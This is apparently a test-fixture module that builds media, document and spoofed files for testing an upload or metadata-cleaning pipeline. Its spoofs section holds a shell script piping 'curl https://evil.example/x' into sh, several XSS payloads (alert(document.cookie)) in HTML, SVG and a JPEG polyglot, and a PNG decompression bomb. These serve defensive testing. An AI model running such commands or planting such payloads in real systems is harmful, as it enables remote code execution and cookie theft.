"""Real media files, made at test time: images with Pillow (EXIF with GPS, ICC, animations,
decompression bombs), audio and video containers crafted byte by byte, documents with
`zipfile`, and the spoofs: executables, HTML and SVG pretending to be images, polyglots.

Every function returns the file's bytes; nothing binary is committed.
"""

from __future__ import annotations

import io
import math
import struct
import wave
import zipfile
import zlib

from PIL import ExifTags, Image, ImageCms

CAMERA = "SpyCam 3000 secret-model"  # written into EXIF; must not survive cleaning
GPS_DATUM = "WGS-84 secret-gps-marker"  # written into the GPS IFD
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">secret-xmp-packet</x:xmpmeta>'
COMMENT = b"secret-comment-block"
SCRIPT = b"<script>alert(document.cookie)</script>"

RED, BLUE, GREEN = (255, 0, 0), (0, 0, 255), (0, 160, 0)


# --- images ---------------------------------------------------------------------------------


def picture(size: tuple[int, int] = (40, 20), mode: str = "RGB") -> Image.Image:
    """Left half red, right half blue (so a rotation shows)."""
    img = Image.new(mode, size, BLUE if mode == "RGB" else (*BLUE, 255))
    left = Image.new(mode, (size[0] // 2, size[1]), RED if mode == "RGB" else (*RED, 128))
    img.paste(left, (0, 0))
    return img


def exif_with_gps(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "SpyCorp"
    exif[ExifTags.Base.Model] = CAMERA
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (48.0, 51.0, 29.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (2.0, 17.0, 40.2)
    gps[ExifTags.GPS.GPSMapDatum] = GPS_DATUM
    return exif


def icc_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def jpeg(size: tuple[int, int] = (40, 20), *, orientation: int = 1, metadata: bool = True) -> bytes:
    """A JPEG with EXIF (camera, GPS, orientation), XMP, an ICC profile and a comment."""
    out = io.BytesIO()
    options: dict[str, object] = {"quality": 95}
    if metadata:
        options |= {
            "exif": exif_with_gps(orientation).tobytes(),
            "xmp": XMP,
            "icc_profile": icc_profile(),
            "comment": COMMENT,
        }
    picture(size).save(out, "JPEG", **options)
    return out.getvalue()


def mpo() -> bytes:
    """A multi-picture JPEG, as phones write (the second picture: a depth or gain map)."""
    out = io.BytesIO()
    main, extra = picture((40, 20)), Image.new("RGB", (20, 10), GREEN)
    main.save(out, "MPO", save_all=True, append_images=[extra], exif=exif_with_gps().tobytes())
    return out.getvalue()


def cmyk_jpeg() -> bytes:
    out = io.BytesIO()
    picture((40, 20)).convert("CMYK").save(out, "JPEG", quality=95)
    return out.getvalue()


def png(size: tuple[int, int] = (40, 20), *, alpha: bool = False) -> bytes:
    """A PNG with EXIF (GPS) and a text chunk."""
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", COMMENT.decode())
    out = io.BytesIO()
    picture(size, "RGBA" if alpha else "RGB").save(
        out, "PNG", pnginfo=info, exif=exif_with_gps().tobytes()
    )
    return out.getvalue()


def webp(size: tuple[int, int] = (40, 20), *, lossless: bool = False) -> bytes:
    out = io.BytesIO()
    picture(size).save(out, "WEBP", lossless=lossless, exif=exif_with_gps().tobytes(), xmp=XMP)
    return out.getvalue()


def frames(count: int, size: tuple[int, int] = (32, 24)) -> list[Image.Image]:
    colors = [RED, BLUE, GREEN, (250, 200, 0), (0, 200, 200)]
    return [Image.new("RGB", size, colors[i % len(colors)]) for i in range(count)]


def gif(count: int = 4, size: tuple[int, int] = (32, 24), *, trailer: bytes = b"") -> bytes:
    """An animated GIF (looping, 80 ms a frame) with a comment, then `trailer` after its end."""
    out = io.BytesIO()
    first, *rest = frames(count, size)
    first.save(out, "GIF", save_all=True, append_images=rest, duration=80, loop=0, comment=COMMENT)
    return out.getvalue() + trailer


def gif_with_xmp() -> bytes:
    """A still GIF with an XMP application extension before its image."""
    data = gif(1)
    at = data.index(b",")  # the image descriptor
    xmp = b"\x21\xff\x0bXMP DataXMP" + bytes([len(XMP)]) + XMP + b"\x00"
    return data[:at] + xmp + data[at:]


def gif_many_frames(count: int) -> bytes:
    """A 1x1 GIF of `count` frames, written byte by byte (Pillow would take a while)."""
    header = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    frame = b"\x21\xf9\x04\x00\x02\x00\x00\x00" + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
    frame += b"\x02\x02\x44\x01\x00"  # LZW: clear, pixel 0, end
    return header + loop + frame * count + b"\x3b"


def webp_animated(count: int = 3) -> bytes:
    out = io.BytesIO()
    first, *rest = frames(count)
    first.save(out, "WEBP", save_all=True, append_images=rest, duration=[100, 200, 300], loop=0)
    return out.getvalue()


def apng(count: int = 3) -> bytes:
    out = io.BytesIO()
    first, *rest = frames(count)
    first.save(out, "PNG", save_all=True, append_images=rest, duration=120, loop=0)
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(
    width: int = 30000, height: int = 30000, *, bit_depth: int = 1, color: int = 0
) -> bytes:
    """A tiny PNG that claims `width` x `height` pixels; its image data is a zlib stream of
    zeros (a few rows of it: a decoder that tried would first allocate the whole image)."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, color, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (1 << 20), 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", rows)
        + (_png_chunk(b"IEND", b""))
    )


def jpeg_garbage() -> bytes:
    """A JPEG's first bytes, then noise."""
    noise = bytes((i * 7919 + 13) % 251 for i in range(4000))
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + noise


def jpeg_truncated() -> bytes:
    data = jpeg((200, 100), metadata=False)
    return data[: len(data) // 2]


# --- audio and video, byte by byte ----------------------------------------------------------


def mp3(seconds: float = 2.0) -> bytes:
    """An ID3v2 tag, then MPEG-1 layer III frames at 128 kbit/s, 44.1 kHz (417 bytes each)."""
    title = b"\x00" + b"secret title"
    frame_tag = b"TIT2" + struct.pack(">I", len(title)) + b"\x00\x00" + title
    id3 = b"ID3\x03\x00\x00" + bytes([0, 0, (len(frame_tag) >> 7) & 0x7F, len(frame_tag) & 0x7F])
    count = math.ceil(seconds * 44100 / 1152)
    frame = b"\xff\xfb\x90\x00" + b"\x00" * 413
    return id3 + frame_tag + frame * count


def adts(seconds: float = 1.5) -> bytes:
    """Raw AAC: ADTS frames of 1024 samples at 44.1 kHz, stereo."""
    body = b"\x21\x00\x49\x90\x02\x19\x00\x23\x80" + b"\x00" * 191
    length = 7 + len(body)
    header = bytes(
        [
            0xFF,
            0xF1,
            (1 << 6) | (4 << 2) | (2 >> 2),
            ((2 & 3) << 6) | (length >> 11),
            (length >> 3) & 0xFF,
            ((length & 7) << 5) | 0x1F,
            0xFC,
        ]
    )
    return (header + body) * math.ceil(seconds * 44100 / 1024)


def _ogg_crc_table() -> list[int]:
    table = []
    for i in range(256):
        crc = i << 24
        for _ in range(8):
            crc = ((crc << 1) ^ 0x04C11DB7) if crc & 0x80000000 else crc << 1
        table.append(crc & 0xFFFFFFFF)
    return table


_OGG_CRC = _ogg_crc_table()


def ogg_page(packet: bytes, *, granule: int, sequence: int, flags: int = 0) -> bytes:
    segments = [255] * (len(packet) // 255) + [len(packet) % 255]
    header = b"OggS" + bytes([0, flags]) + struct.pack("<qIII", granule, 0x5EC7E7, sequence, 0)
    page = bytearray(header + bytes([len(segments)]) + bytes(segments) + packet)
    crc = 0
    for byte in page:
        crc = ((crc << 8) & 0xFFFFFFFF) ^ _OGG_CRC[(crc >> 24) ^ byte]
    page[22:26] = struct.pack("<I", crc)
    return bytes(page)


def _ogg(first: bytes, second: bytes, seconds: float, rate: int, pre_skip: int = 0) -> bytes:
    pages = [ogg_page(first, granule=0, sequence=0, flags=0x02)]
    pages.append(ogg_page(second, granule=0, sequence=1))
    total = pre_skip + round(seconds * rate)
    for index in range(1, 5):
        flags = 0x04 if index == 4 else 0
        pages.append(
            ogg_page(b"\xfc" * 40, granule=total * index // 4, sequence=1 + index, flags=flags)
        )
    return b"".join(pages)


def ogg_opus(seconds: float = 3.0) -> bytes:
    head = b"OpusHead" + bytes([1, 1]) + struct.pack("<HIhB", 312, 48000, 0, 0)
    vendor = b"media_files"
    tags = b"OpusTags" + struct.pack("<I", len(vendor)) + vendor + struct.pack("<I", 0)
    return _ogg(head, tags, seconds, 48000, pre_skip=312)


def ogg_vorbis(seconds: float = 2.5) -> bytes:
    ident = b"\x01vorbis" + struct.pack("<IBIiiiBB", 0, 2, 44100, 0, 128000, 0, 0xB8, 1)
    vendor = b"media_files"
    comment = (
        b"\x03vorbis" + struct.pack("<I", len(vendor)) + vendor + struct.pack("<I", 0) + b"\x01"
    )
    return _ogg(ident, comment, seconds, 44100)


def _box(kind: bytes, *payload: bytes) -> bytes:
    body = b"".join(payload)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def _full_box(kind: bytes, version: int, flags: int, *payload: bytes) -> bytes:
    return _box(kind, bytes([version]) + flags.to_bytes(3, "big"), *payload)


_IDENTITY = struct.pack(">9i", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
_QUARTER_TURN = struct.pack(">9i", 0, 0x10000, 0, -0x10000, 0, 0, 0, 0, 0x40000000)


def _trak(
    handler: bytes,
    track_id: int,
    timescale: int,
    duration: int,
    size: tuple[int, int] = (0, 0),
    *,
    turned: bool = False,
) -> bytes:
    matrix = _QUARTER_TURN if turned else _IDENTITY
    tkhd = _full_box(
        b"tkhd", 0, 3,
        struct.pack(">IIIII", 0, 0, track_id, 0, duration), b"\x00" * 8,
        struct.pack(">hhhH", 0, 0, 0x0100 if handler == b"soun" else 0, 0), matrix,
        struct.pack(">II", size[0] << 16, size[1] << 16),
    )  # fmt: skip
    mdhd = _full_box(b"mdhd", 0, 0, struct.pack(">IIIIHH", 0, 0, timescale, duration, 0x55C4, 0))
    hdlr = _full_box(b"hdlr", 0, 0, b"\x00" * 4, handler, b"\x00" * 12, b"media_files\x00")
    if handler == b"soun":
        esds = _full_box(
            b"esds", 0, 0, bytes.fromhex("03190000000411400000000000000000000000000005021210060102")
        )
        entry = _box(
            b"mp4a", b"\x00" * 6, struct.pack(">H", 1), b"\x00" * 8,
            struct.pack(">HHHHI", 2, 16, 0, 0, timescale << 16), esds,
        )  # fmt: skip
    else:
        entry = _box(
            b"avc1",
            b"\x00" * 6,
            struct.pack(">H", 1),
            b"\x00" * 16,
            struct.pack(">HH", *size),
            b"\x00" * 50,
        )
    stsd = _full_box(b"stsd", 0, 0, struct.pack(">I", 1), entry)
    stbl = _box(b"stbl", stsd)
    return _box(b"trak", tkhd, _box(b"mdia", mdhd, hdlr, _box(b"minf", stbl)))


def _mvhd(timescale: int, duration: int) -> bytes:
    return _full_box(
        b"mvhd", 0, 0,
        struct.pack(">IIII", 0, 0, timescale, duration), struct.pack(">IH", 0x10000, 0x0100),
        b"\x00" * 10, _IDENTITY, b"\x00" * 24, struct.pack(">I", 3),
    )  # fmt: skip


def m4a(seconds: float = 4.0) -> bytes:
    """An M4A: ftyp `M4A `, one AAC track, an empty mdat."""
    ftyp = _box(b"ftyp", b"M4A ", struct.pack(">I", 0), b"M4A isommp42")
    duration = round(seconds * 44100)
    moov = _box(b"moov", _mvhd(1000, round(seconds * 1000)), _trak(b"soun", 1, 44100, duration))
    return ftyp + moov + _box(b"mdat", b"\x00" * 64)


def mp4(
    seconds: float = 5.0,
    size: tuple[int, int] = (640, 360),
    *,
    turned: bool = False,
    moov_last: bool = False,
    brand: bytes = b"isom",
    audio: bool = True,
) -> bytes:
    """An MP4: ftyp `isom`, a video track (and an AAC one), mdat before or after moov."""
    ftyp = _box(b"ftyp", brand, struct.pack(">I", 0x200), b"isomiso2avc1mp41")
    tracks = [_trak(b"vide", 1, 90000, round(seconds * 90000), size, turned=turned)]
    if audio:
        tracks.append(_trak(b"soun", 2, 48000, round(seconds * 48000)))
    moov = _box(b"moov", _mvhd(1000, round(seconds * 1000)), *tracks)
    mdat = _box(b"mdat", b"\x00" * 256)
    return ftyp + (mdat + moov if moov_last else moov + mdat)


def heic() -> bytes:
    return _box(b"ftyp", b"heic", struct.pack(">I", 0), b"mif1heic") + _box(b"meta", b"\x00" * 32)


def quicktime() -> bytes:
    return _box(b"ftyp", b"qt  ", struct.pack(">I", 0x200), b"qt  ") + _box(b"moov", b"")


def _vint_size(size: int | None) -> bytes:
    if size is None:
        return b"\x01\xff\xff\xff\xff\xff\xff\xff"  # unknown
    return (
        bytes([0x10]) + size.to_bytes(3, "big")
        if size < (1 << 21)
        else bytes([0x01]) + size.to_bytes(7, "big")
    )


def _el(element_id: int, *payload: bytes, unknown: bool = False) -> bytes:
    body = b"".join(payload)
    id_bytes = element_id.to_bytes((element_id.bit_length() + 7) // 8, "big")
    return id_bytes + _vint_size(None if unknown else len(body)) + body


def _uint_el(element_id: int, value: int) -> bytes:
    return _el(element_id, value.to_bytes(max(1, (value.bit_length() + 7) // 8), "big"))


def _ebml_header(doctype: bytes = b"webm") -> bytes:
    return _el(
        0x1A45DFA3,
        _uint_el(0x4286, 1),
        _uint_el(0x42F7, 1),
        _uint_el(0x42F2, 4),
        _uint_el(0x42F3, 8),
        _el(0x4282, doctype),
        _uint_el(0x4287, 4),
        _uint_el(0x4285, 2),
    )


def _simple_block(track: int, timecode: int) -> bytes:
    return _el(0xA3, bytes([0x80 | track]), struct.pack(">h", timecode), b"\x80", b"\x00" * 20)


def webm(seconds: float = 2.5, size: tuple[int, int] = (640, 360)) -> bytes:
    """A WebM video: Info with TimecodeScale and Duration, a VP8 track, one Cluster."""
    info = _el(
        0x1549A966,
        _uint_el(0x2AD7B1, 1_000_000),
        _el(0x4489, struct.pack(">d", seconds * 1000)),
        _el(0x4D80, b"media_files"),
    )
    video = _el(0xE0, _uint_el(0xB0, size[0]), _uint_el(0xBA, size[1]))
    track = _el(
        0xAE, _uint_el(0xD7, 1), _uint_el(0x73C5, 1), _uint_el(0x83, 1), _el(0x86, b"V_VP8"), video
    )
    cluster = _el(0x1F43B675, _uint_el(0xE7, 0), _simple_block(1, 0), _simple_block(1, 40))
    return _ebml_header() + _el(0x18538067, info, _el(0x1654AE6B, track), cluster)


def webm_live_audio(seconds: float = 3.0) -> bytes:
    """What a browser's MediaRecorder writes for a voice note: Opus in WebM, a Segment and
    Clusters of unknown size, no Duration: it must be read from the block times."""
    info = _el(0x1549A966, _uint_el(0x2AD7B1, 1_000_000), _el(0x4D80, b"Chrome"))
    audio = _el(0xE1, _el(0xB5, struct.pack(">d", 48000.0)), _uint_el(0x9F, 1))
    track = _el(0xAE, _uint_el(0xD7, 1), _uint_el(0x83, 2), _el(0x86, b"A_OPUS"), audio)
    body = info + _el(0x1654AE6B, track)
    total_ms = round(seconds * 1000)
    for start in range(0, total_ms, 1000):  # a Cluster a second, a block every 20 ms
        blocks = [_simple_block(1, at) for at in range(0, min(1000, total_ms - start + 1), 20)]
        body += b"\x1f\x43\xb6\x75" + _vint_size(None) + _uint_el(0xE7, start) + b"".join(blocks)
    return _ebml_header() + b"\x18\x53\x80\x67" + _vint_size(None) + body


def matroska() -> bytes:
    return _ebml_header(b"matroska") + _el(0x18538067, b"")


def wav(seconds: float = 2.0, *, rate: int = 16000, width: int = 2, channels: int = 1) -> bytes:
    """A WAV made with `wave`: a quiet first half, then a loud 440 Hz tone."""
    out = io.BytesIO()
    with wave.open(out, "wb") as file:
        file.setnchannels(channels)
        file.setsampwidth(width)
        file.setframerate(rate)
        count = round(seconds * rate)
        top = (1 << (8 * width - 1)) - 1
        samples = bytearray()
        for n in range(count):
            level = 0.05 if n < count // 2 else 0.9
            value = round(top * level * math.sin(2 * math.pi * 440 * n / rate))
            encoded = (
                (value + 128).to_bytes(1, "little")
                if width == 1
                else value.to_bytes(width, "little", signed=True)
            )
            samples += encoded * channels
        file.writeframes(bytes(samples))
    return out.getvalue()


# --- documents ------------------------------------------------------------------------------


def pdf() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


_OOXML = {
    "docx": (
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    ),
    "xlsx": (
        "xl/workbook.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    ),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
    "docm": ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
}


def ooxml(kind: str = "docx", *, content_types: bool = True) -> bytes:
    """A minimal Office Open XML file (docx, xlsx, pptx, docm), or without its
    `[Content_Types].xml`: then it is only a ZIP."""
    part, content_type = _OOXML[kind]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if content_types:
            archive.writestr(
                "[Content_Types].xml",
                '<?xml version="1.0" encoding="UTF-8"?>'
                '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                '<Default Extension="xml" ContentType="application/xml"/>'
                f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>',
            )
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr(part, "<document>hello</document>")
        if kind == "docm":
            archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")
    return out.getvalue()


def odf(mimetype: str = "application/vnd.oasis.opendocument.text") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr(
            "content.xml", "<office:document-content/>", compress_type=zipfile.ZIP_DEFLATED
        )
        archive.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
    return out.getvalue()


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("notes.txt", "hello " * 100)
        archive.writestr("photos/readme.md", "# photos")
    return out.getvalue()


def jar() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34")
    return out.getvalue()


def ole2(*names: str) -> bytes:
    """An OLE2 compound file (512-byte sectors) whose directory names `names` beside the
    root: `WordDocument` makes a .doc, `Workbook` an .xls; anything else, say an .msi."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9)  # minor, major, byte order, shift
    struct.pack_into("<H", header, 0x20, 6)
    struct.pack_into("<II", header, 0x2C, 1, 1)  # one FAT sector; the directory starts at 1
    struct.pack_into("<I", header, 0x3C, 0xFFFFFFFE)
    difat = [0] + [0xFFFFFFFF] * 108  # the FAT is sector 0
    struct.pack_into("<109I", header, 0x4C, *difat)
    fat = struct.pack("<128I", 0xFFFFFFFD, 0xFFFFFFFE, *([0xFFFFFFFF] * 126))
    entries = b""
    for index, name in enumerate(("Root Entry", *names)):
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        entry = bytearray(128)
        entry[: len(encoded)] = encoded
        struct.pack_into("<HBB", entry, 0x40, len(encoded), 5 if index == 0 else 2, 1)
        struct.pack_into("<III", entry, 0x44, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
        entries += bytes(entry)
    directory = entries.ljust(512, b"\x00")
    return bytes(header) + fat + directory + b"\x00" * 512


def text() -> bytes:
    return "Meeting notes — café at 10:00.\nBring the 🍰.\n".encode() * 50


def csv() -> bytes:
    return b"name,amount\nalice,10\nbob,20\n"


# --- spoofs ---------------------------------------------------------------------------------


def elf() -> bytes:
    header = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1)
    return header.ljust(64, b"\x00") + b"\x90" * 256


def pe() -> bytes:
    dos = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 54)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = bytes(dos).ljust(0x80, b"\x00")
    return stub + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 1) + b"\x00" * 200


def macho() -> bytes:
    return b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00" + b"\x00" * 100


def shebang() -> bytes:
    return b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


def html() -> bytes:
    return b"\xef\xbb\xbf\n  <!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"


def html_fragment() -> bytes:
    return b"<p>hello</p>" + SCRIPT


def svg() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9"/></svg>'


def svg_in_xml() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- a drawing -->\n'
        b'<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(1)</svg:script>'
        b"</svg:svg>"
    )


def polyglot_jpeg() -> bytes:
    """A valid JPEG with HTML after its end: a browser sniffing it could run the script."""
    return jpeg((24, 16), metadata=False) + SCRIPT
